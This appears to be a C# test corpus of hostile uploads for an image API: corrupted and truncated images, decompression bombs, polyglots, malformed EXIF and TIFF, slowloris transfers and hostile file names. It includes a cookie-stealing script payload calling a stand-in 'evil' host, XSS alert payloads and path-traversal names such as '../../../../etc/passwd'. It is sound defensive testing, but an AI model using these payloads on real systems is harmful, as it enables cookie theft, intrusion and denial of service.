using System.Net.Sockets;
using System.Text;
using SkiaSharp;
using static Atlas.TestSupport.TestImages;

namespace Atlas.Api.Tests.Reliability;

/// <summary>What came back for one hostile request: no status when the connection was gone before an answer.</summary>
public sealed record HostileAnswer(int? Status, string? ContentType, string Body);

/// <summary>One hostile request and the status it must get (<see cref="ClientGone"/>: the client leaves; nothing is answered).</summary>
public sealed record HostileCase(string Name, int ExpectedStatus, Func<Uri, CancellationToken, Task<HostileAnswer>> Send)
{
    public const int ClientGone = 0;

    public override string ToString() => Name;
}

/// <summary>One multipart part.</summary>
public sealed record FormPart(string Name, byte[] Data, string? FileName = null, string? ContentType = null);

/// <summary>
/// The hostile-input corpus: every request is generated here (no downloaded files), each states its expected status.
/// Run by <c>HostileInputTests</c> against the real HTTP host with the real engine on the demo bundle.
/// </summary>
public static class HostileCorpus
{
    public const string Boundary = "atlas-corpus-boundary-7d3f";
    private static readonly HttpClient Http = new(new SocketsHttpHandler { PooledConnectionLifetime = TimeSpan.FromSeconds(30) }) { Timeout = TimeSpan.FromSeconds(60) };

    /// <summary>A multipart/form-data body written byte by byte (file names go out as raw UTF-8, as browsers send them).</summary>
    public static byte[] Form(IEnumerable<FormPart> parts, bool closing = true)
    {
        using var ms = new MemoryStream();
        foreach (var part in parts)
        {
            var disposition = $"form-data; name=\"{part.Name}\"" + (part.FileName is null ? "" : $"; filename=\"{part.FileName.Replace("\"", "%22", StringComparison.Ordinal)}\"");
            var head = $"--{Boundary}\r\nContent-Disposition: {disposition}\r\n" + (part.ContentType is null ? "" : $"Content-Type: {part.ContentType}\r\n") + "\r\n";
            ms.Write(Encoding.UTF8.GetBytes(head));
            ms.Write(part.Data);
            ms.Write("\r\n"u8);
        }
        if (closing) ms.Write(Encoding.ASCII.GetBytes($"--{Boundary}--\r\n"));
        return ms.ToArray();
    }

    public static FormPart File(byte[] data, string contentType, string fileName = "camera-trap.jpg") => new("file", data, fileName, contentType);

    public static FormPart Field(string name, string value) => new(name, Encoding.UTF8.GetBytes(value));

    /// <summary>POSTs a ready-made body with HttpClient.</summary>
    public static Func<Uri, CancellationToken, Task<HostileAnswer>> Post(byte[] body, string path = "/uploadfile/", string contentType = $"multipart/form-data; boundary={Boundary}") =>
        async (baseUri, ct) =>
        {
            using var content = new ByteArrayContent(body);
            content.Headers.TryAddWithoutValidation("Content-Type", contentType);
            using var response = await Http.PostAsync(new Uri(baseUri, path), content, ct);
            return new HostileAnswer((int)response.StatusCode, response.Content.Headers.ContentType?.MediaType, await response.Content.ReadAsStringAsync(ct));
        };

    public static Func<Uri, CancellationToken, Task<HostileAnswer>> Upload(params FormPart[] parts) => Post(Form(parts));

    public static Func<Uri, CancellationToken, Task<HostileAnswer>> UploadImage(byte[] data, string contentType, string fileName = "camera-trap.jpg") =>
        Upload(File(data, contentType, fileName));

    /// <summary>
    /// Sends the head and <paramref name="sendBytes"/> bytes of the body over a raw socket, <paramref name="pause"/> between
    /// pieces of <paramref name="piece"/> bytes; then half-closes (the server sees the body end early) or aborts.
    /// </summary>
    public static Func<Uri, CancellationToken, Task<HostileAnswer>> Raw(byte[] body, bool chunked, int sendBytes, bool abort = false, int piece = 16 * 1024, TimeSpan pause = default, bool declareFullLength = true)
    {
        return async (baseUri, ct) =>
        {
            using var tcp = new TcpClient();
            await tcp.ConnectAsync(baseUri.Host, baseUri.Port, ct);
            var stream = tcp.GetStream();
            var framing = chunked ? "Transfer-Encoding: chunked" : $"Content-Length: {(declareFullLength ? body.Length : sendBytes)}";
            await stream.WriteAsync(Encoding.ASCII.GetBytes(
                $"POST /uploadfile/ HTTP/1.1\r\nHost: localhost\r\n{framing}\r\nContent-Type: multipart/form-data; boundary={Boundary}\r\n\r\n"), ct);
            try
            {
                for (var offset = 0; offset < sendBytes; offset += piece)
                {
                    var n = Math.Min(piece, sendBytes - offset);
                    if (chunked) await stream.WriteAsync(Encoding.ASCII.GetBytes($"{n:X}\r\n"), ct);
                    await stream.WriteAsync(body.AsMemory(offset, n), ct);
                    if (chunked) await stream.WriteAsync("\r\n"u8.ToArray(), ct);
                    if (pause > TimeSpan.Zero) await Task.Delay(pause, ct);
                }
                if (chunked && sendBytes == body.Length) await stream.WriteAsync("0\r\n\r\n"u8.ToArray(), ct);
            }
            catch (IOException)
            {
                // The server gave up on the body (timeout, refusal); its answer is read below.
            }

            if (abort)
            {
                tcp.Client.LingerState = new LingerOption(true, 0);
                tcp.Client.Close();
                return new HostileAnswer(null, null, "");
            }

            if (sendBytes < body.Length) tcp.Client.Shutdown(SocketShutdown.Send);
            return await ReadAnswerAsync(stream, ct);
        };
    }

    private static async Task<HostileAnswer> ReadAnswerAsync(NetworkStream stream, CancellationToken ct)
    {
        using var received = new MemoryStream();
        var buffer = new byte[16 * 1024];
        try
        {
            using var timeout = CancellationTokenSource.CreateLinkedTokenSource(ct);
            timeout.CancelAfter(TimeSpan.FromSeconds(30));
            int read;
            while ((read = await stream.ReadAsync(buffer, timeout.Token)) > 0)
            {
                received.Write(buffer, 0, read);
                var text = Encoding.UTF8.GetString(received.ToArray());
                var end = text.IndexOf("\r\n\r\n", StringComparison.Ordinal);
                if (end < 0) continue;
                var lengthLine = text[..end].Split("\r\n").FirstOrDefault(l => l.StartsWith("Content-Length:", StringComparison.OrdinalIgnoreCase));
                if (lengthLine is not null && Encoding.UTF8.GetByteCount(text[(end + 4)..]) >= int.Parse(lengthLine[15..].Trim(), System.Globalization.CultureInfo.InvariantCulture)) break;
                if (text.EndsWith("0\r\n\r\n", StringComparison.Ordinal)) break;
            }
        }
        catch (Exception ex) when (ex is IOException or OperationCanceledException)
        {
        }

        var all = Encoding.UTF8.GetString(received.ToArray());
        var split = all.IndexOf("\r\n\r\n", StringComparison.Ordinal);
        if (split < 0) return new HostileAnswer(null, null, all);
        var head = all[..split];
        var status = int.Parse(head.Split(' ')[1], System.Globalization.CultureInfo.InvariantCulture);
        var type = head.Split("\r\n").FirstOrDefault(l => l.StartsWith("Content-Type:", StringComparison.OrdinalIgnoreCase))?[13..].Split(';')[0].Trim();
        var body = all[(split + 4)..];
        if (head.Contains("Transfer-Encoding: chunked", StringComparison.OrdinalIgnoreCase))
        {
            var joined = new StringBuilder();
            var position = 0;
            while (position < body.Length)
            {
                var lineEnd = body.IndexOf("\r\n", position, StringComparison.Ordinal);
                if (lineEnd < 0) break;
                var size = Convert.ToInt32(body[position..lineEnd].Split(';')[0].Trim(), 16);
                if (size == 0) break;
                joined.Append(body, lineEnd + 2, Math.Min(size, body.Length - lineEnd - 2));
                position = lineEnd + 2 + size + 2;
            }
            body = joined.ToString();
        }
        return new HostileAnswer(status, type, body);
    }

    /// <summary>Every case of the corpus.</summary>
    public static IReadOnlyList<HostileCase> All() => [.. Build()];

    private static IEnumerable<HostileCase> Build()
    {
        var jpeg = Jpeg();
        var png = Picture(SKEncodedImageFormat.Png);
        var webp = Picture(SKEncodedImageFormat.Webp);
        var gif = Gif(96, 64, 1);
        var bmp = Bmp();
        var tiff = Tiff(96, 64);

        // Empty and tiny.
        yield return new("zero-byte file", 400, UploadImage([], "image/jpeg"));
        yield return new("one-byte file", 415, UploadImage([0xFF], "image/jpeg"));
        yield return new("JPEG magic only (3 bytes)", 422, UploadImage([0xFF, 0xD8, 0xFF], "image/jpeg"));

        // Truncated at several points.
        yield return new("JPEG truncated after 20 bytes", 422, UploadImage(jpeg[..20], "image/jpeg"));
        yield return new("JPEG truncated at 60%", 200, UploadImage(jpeg[..(jpeg.Length * 6 / 10)], "image/jpeg"));
        yield return new("JPEG truncated at 90%", 200, UploadImage(jpeg[..(jpeg.Length * 9 / 10)], "image/jpeg"));
        yield return new("PNG truncated inside IHDR", 422, UploadImage(png[..20], "image/png"));
        yield return new("PNG truncated at 50%", 200, UploadImage(png[..(png.Length / 2)], "image/png"));
        yield return new("WebP truncated at 50%", 422, UploadImage(webp[..(webp.Length / 2)], "image/webp"));
        yield return new("GIF truncated at 50%", 200, UploadImage(gif[..(gif.Length / 2)], "image/gif"));
        yield return new("BMP truncated at 50%", 200, UploadImage(bmp[..(bmp.Length / 2)], "image/bmp"));
        yield return new("TIFF truncated after 10 bytes", 422, UploadImage(tiff[..10], "image/tiff"));
        // LibTiff writes the directory after the pixel data, so half a file has no directory left.
        yield return new("TIFF truncated at 50%", 422, UploadImage(tiff[..(tiff.Length / 2)], "image/tiff"));

        // Corrupted headers.
        yield return new("JPEG with 0x0 SOF", 422, UploadImage(JpegWithDimensions(jpeg, 0, 0), "image/jpeg"));
        var badCrc = (byte[])png.Clone();
        badCrc[29] ^= 0xFF; // IHDR CRC
        yield return new("PNG with a bad IHDR CRC", 422, UploadImage(badCrc, "image/png"));
        var badIdat = (byte[])png.Clone();
        for (var i = 60; i < Math.Min(badIdat.Length - 20, 400); i++) badIdat[i] = (byte)(i * 13);
        yield return new("PNG with scrambled IDAT", 200, UploadImage(badIdat, "image/png"));
        var gifZero = (byte[])gif.Clone();
        gifZero[6] = gifZero[7] = gifZero[8] = gifZero[9] = 0;
        yield return new("GIF with a 0x0 screen", 200, UploadImage(gifZero, "image/gif"));

        // Wrong magic for the declared type; disguised documents.
        yield return new("PNG bytes declared image/jpeg", 415, UploadImage(png, "image/jpeg"));
        yield return new("JPEG bytes declared image/png", 415, UploadImage(jpeg, "image/png", "x.png"));
        yield return new("HTML declared image/jpeg", 415, UploadImage(Text("<!DOCTYPE html><html><body><img src=x onerror=alert(1)></body></html>"), "image/jpeg"));
        yield return new("script declared image/png", 415, UploadImage(Text("<script>fetch('//evil/'+document.cookie)</script>"), "image/png", "x.png"));
        yield return new("SVG declared image/svg+xml", 415, UploadImage(Text("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><rect width=\"10\" height=\"10\"/></svg>"), "image/svg+xml", "x.svg"));
        yield return new("SVG declared image/png", 415, UploadImage(Text("<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"/>"), "image/png", "x.png"));
        yield return new("HEIF-like ftyp box", 415, UploadImage([0, 0, 0, 0x18, (byte)'f', (byte)'t', (byte)'y', (byte)'p', (byte)'h', (byte)'e', (byte)'i', (byte)'c', 0, 0, 0, 0], "image/jpeg"));

        // Polyglots.
        yield return new("JPEG followed by a ZIP (polyglot)", 200, UploadImage([.. jpeg, .. Zip()], "image/jpeg"));
        yield return new("ZIP followed by a JPEG", 415, UploadImage([.. Zip(), .. jpeg], "image/jpeg"));

        // Decompression bombs: huge declared dimensions, tiny files.
        yield return new("PNG bomb 50000x50000", 413, UploadImage(PngBomb(50_000, 50_000), "image/png", "bomb.png"));
        yield return new("PNG bomb 20000x20000 (just over MAX_IMAGE_PIXELS)", 413, UploadImage(PngBomb(20_000, 20_000), "image/png", "bomb.png"));
        yield return new("JPEG bomb 65500x65500", 413, UploadImage(JpegWithDimensions(jpeg, 65_500, 65_500), "image/jpeg"));
        yield return new("TIFF announcing 100000x100000", 413, UploadImage(TiffWithStrip(100_000, 100_000, 200, 64, 64), "image/tiff", "x.tif"));

        // TIFF structure attacks.
        yield return new("TIFF header + noise (seed 1)", 422, UploadImage(TiffHeaderThenNoise(1), "image/tiff", "x.tif"));
        yield return new("TIFF header + noise (seed 2)", 422, UploadImage(TiffHeaderThenNoise(2), "image/tiff", "x.tif"));
        yield return new("TIFF header + noise (seed 3)", 422, UploadImage(TiffHeaderThenNoise(3), "image/tiff", "x.tif"));
        // Like a truncated file: decoded as far as the data goes (nothing, so black), not refused.
        yield return new("TIFF strip offset beyond the file", 200, UploadImage(TiffWithStrip(32, 32, 0x7FFF_0000, 3072, 16), "image/tiff", "x.tif"));
        yield return new("TIFF huge strip byte count", 200, UploadImage(TiffWithStrip(32, 32, 122, 0xFFFF_FFF0, 3072), "image/tiff", "x.tif"));
        yield return new("TIFF with 60 pages", 200, UploadImage(Tiff(64, 48, pages: 60), "image/tiff", "x.tif"));

        // Unusual but valid images.
        yield return new("16-bit PNG", 200, UploadImage(Png16(), "image/png", "x.png"));
        yield return new("palette PNG", 200, UploadImage(PngPalette(), "image/png", "x.png"));
        yield return new("interlaced grey+alpha PNG", 200, UploadImage(Png(40, 30, 4, 8, (x, y) => [(byte)(x * 6), (byte)(y * 8)], interlaced: true), "image/png", "x.png"));
        yield return new("animated GIF (3 frames)", 200, UploadImage(Gif(96, 64, 3), "image/gif", "x.gif"));
        yield return new("animated WebP (2 frames)", 200, UploadImage(AnimatedWebP(), "image/webp", "x.webp"));
        yield return new("1x1 JPEG", 200, UploadImage(Jpeg(1, 1), "image/jpeg"));
        yield return new("20000x1 PNG", 200, UploadImage(Picture(SKEncodedImageFormat.Png, 20_000, 1), "image/png", "x.png"));
        yield return new("1x20000 PNG", 200, UploadImage(Picture(SKEncodedImageFormat.Png, 1, 20_000), "image/png", "x.png"));
        for (var orientation = 1; orientation <= 8; orientation++)
        {
            yield return new($"EXIF orientation {orientation}", 200, UploadImage(JpegWithOrientation(orientation), "image/jpeg"));
        }
        yield return new("EXIF orientation 0 (invalid)", 200, UploadImage(JpegWithOrientation(0), "image/jpeg"));
        yield return new("EXIF orientation 65535 (invalid)", 200, UploadImage(JpegWithOrientation(65535), "image/jpeg"));

        // Corrupt and enormous EXIF IFDs.
        yield return new("EXIF IFD0 offset outside the block", 200, UploadImage(JpegWithExif(jpeg, ExifIfd(0xFFFF_FF00, 1, [(0x0112, 3, 1, 6)])), "image/jpeg"));
        yield return new("EXIF declaring 65535 entries", 200, UploadImage(JpegWithExif(jpeg, ExifIfd(8, 0xFFFF, [(0x0112, 3, 1, 6)])), "image/jpeg"));
        yield return new("EXIF IFD chain that loops to itself", 200, UploadImage(JpegWithExif(jpeg, ExifIfd(8, 1, [(0x0112, 3, 1, 3)], nextIfd: 8)), "image/jpeg"));
        yield return new("EXIF tag with a 4-billion count", 200, UploadImage(JpegWithExif(jpeg, ExifIfd(8, 1, [(0x010F, 2, 0xFFFF_FFFF, 26)])), "image/jpeg"));
        yield return new("EXIF block of 65,000 bytes", 200, UploadImage(JpegWithExif(jpeg,
            ExifIfd(8, 5000, Enumerable.Range(0, 5000).Select(i => ((ushort)(0x8000 + i), (ushort)4, 1u, (uint)i)), padTo: 64_000)), "image/jpeg"));

        // Hostile file names (nothing is ever written to disk; the name is only echoed, JSON-escaped).
        yield return new("file name with path traversal", 200, UploadImage(jpeg, "image/jpeg", "../../../../etc/passwd"));
        yield return new("file name with Windows path traversal", 200, UploadImage(jpeg, "image/jpeg", "..\\..\\windows\\system32\\cmd.exe"));
        yield return new("file name with control characters", 400, UploadImage(jpeg, "image/jpeg", "bad\u0001\u001bname.jpg"));
        yield return new("file name of 10,000 characters", 400, UploadImage(jpeg, "image/jpeg", new string('a', 10_000) + ".jpg"));
        yield return new("file name with right-to-left override", 200, UploadImage(jpeg, "image/jpeg", "photo\u202Egpj.exe"));
        yield return new("file name with a quote and HTML", 200, UploadImage(jpeg, "image/jpeg", "<img src=x onerror=alert(1)>\".jpg"));

        // Form structure.
        yield return new("two file fields", 400, Upload(File(jpeg, "image/jpeg"), File(png, "image/png", "b.png")));
        yield return new("fields in the wrong order (file last)", 200, Upload(Field("longitude", "-73.84"), Field("country", "USA"), Field("latitude", "41.46"), File(jpeg, "image/jpeg")));
        yield return new("duplicated country field", 400, Upload(File(jpeg, "image/jpeg"), Field("country", "USA"), Field("country", "KEN")));
        yield return new("multipart with no closing boundary", 400, Post(Form([File(jpeg, "image/jpeg")], closing: false)));
        yield return new("multipart with a different boundary", 400, Post(Form([File(jpeg, "image/jpeg")]), contentType: "multipart/form-data; boundary=not-the-one"));
        yield return new("multipart without a boundary parameter", 400, Post(Form([File(jpeg, "image/jpeg")]), contentType: "multipart/form-data"));
        yield return new("100 form parts", 400, Upload([File(jpeg, "image/jpeg"), .. Enumerable.Range(0, 100).Select(i => Field($"f{i}", "x"))]));
        yield return new("part headers of 8 KB", 400, Upload(new FormPart("file", jpeg, "a.jpg", "image/jpeg; x=" + new string('x', 8192))));
        yield return new("JSON body on the upload route", 415, Post(Text("{\"file\":\"AAAA\"}"), contentType: "application/json"));

        foreach (var (name, bytes, type, expected) in FuzzRegressions.All())
        {
            yield return new(name, expected, UploadImage(bytes, type, "fuzz.bin"));
        }

        // Broken transfers.
        var form = Form([File(jpeg, "image/jpeg")]);
        // A client that half-closes its socket mid-body has, for Kestrel, gone away: the request is aborted, no answer.
        yield return new("chunked body that stops mid-way (half-close)", HostileCase.ClientGone, Raw(form, chunked: true, sendBytes: form.Length / 2));
        yield return new("Content-Length body that stops mid-way (half-close)", HostileCase.ClientGone, Raw(form, chunked: false, sendBytes: form.Length / 2));
        yield return new("client resets mid-upload", HostileCase.ClientGone, Raw(form, chunked: true, sendBytes: form.Length / 2, abort: true));
        yield return new("slow but steady client", 200, Raw(form, chunked: true, sendBytes: form.Length, piece: Math.Max(1, form.Length / 10), pause: TimeSpan.FromMilliseconds(150)));
        yield return new("slowloris body (1 byte a second)", 408, Raw(form, chunked: false, sendBytes: 8, piece: 1, pause: TimeSpan.FromSeconds(1)));
    }
}
